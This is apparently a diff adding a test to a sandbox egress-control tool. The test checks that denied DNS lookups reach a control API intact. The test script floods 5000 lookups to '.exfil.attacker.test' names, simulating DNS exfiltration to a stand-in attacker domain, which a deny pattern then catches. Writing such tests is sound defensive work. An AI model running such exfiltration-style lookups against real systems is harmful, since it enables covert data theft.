@@ -19,6 +19,7 @@ import {
   RecordQueue,
   type Sink,
 } from '../../runtime-shims/node/records.js';
+import { type Api, type StoreFactory, startApi, storeFactory } from '../control/harness.js';
 import { type Fixture, killAll, makeFixture, runNode } from './harness.js';
 
 function dnsDeny(name: string, origin?: RecordInput['origin']): RecordInput {
@@ -402,6 +403,52 @@ describe('a real Node child flooding denied names', { timeout: 120_000 }, () => 
       expect(r.aggregate?.sample.every((name) => name.endsWith('.exfil.attacker.test'))).toBe(true);
     }
     expect(aggregates.reduce((sum, r) => sum + (r.aggregate?.distinct ?? 0), 0)).toBe(total(aggregates));
+  });
+
+  it('through the HTTP sink to the control API: stored, found by the domain, counts summing to the flood, none missing', async () => {
+    let factory: StoreFactory | undefined;
+    let api: Api | undefined;
+    try {
+      factory = await storeFactory('sqlite');
+      api = await startApi(factory);
+      const app = join(fx.dir, 'exfil-http.cjs');
+      writeFileSync(
+        app,
+        `const dns = require('node:dns');
+(async () => {
+  for (let i = 0; i < 5000; i += 100) {
+    const wave = [];
+    for (let j = i; j < i + 100; j++) wave.push(new Promise((r) => dns.lookup('h' + j + '.exfil.attacker.test', r)));
+    await Promise.all(wave);
+  }
+  const shim = globalThis[Symbol.for('bulkhead.shim.instance')];
+  const result = await shim.flush();
+  console.log(JSON.stringify({ ...result, error: shim.status().lastDeliveryError ?? null }));
+})();
+`,
+      );
+      const run = await runNode(
+        '',
+        fx.env({ BULKHEAD_REPORT: `${api.server.url}/v1/reports`, BULKHEAD_TOKEN: api.workload }),
+        { args: [app], timeoutMs: 60_000 },
+      );
+      expect(run.json).toEqual({ delivered: expect.any(Number), pending: 0, dropped: 0, error: null });
+      const text = await (await api.call('/v1/denies?destination=*.attacker.test&format=ndjson')).text();
+      const records = text
+        .trim()
+        .split('\n')
+        .map((line) => JSON.parse(line) as DenyRecord);
+      expect(total(records)).toBe(5000);
+      const aggregate = records.find((r) => r.aggregate);
+      expect(aggregate?.aggregate?.pattern).toBe('*.attacker.test');
+      expect(aggregate?.sandboxId).toBeDefined();
+      // Numbered records (sandboxId, seq), aggregates included: the API sees no gap.
+      const metrics = await (await api.call('/metrics')).text();
+      expect(metrics).toMatch(/^bulkhead_report_records_missing 0$/m);
+    } finally {
+      await api?.server.close();
+      await factory?.cleanup();
+    }
   });
 
   it('without a sink, logs at most a burst of deny lines a second and one summary of the rest', async () => {
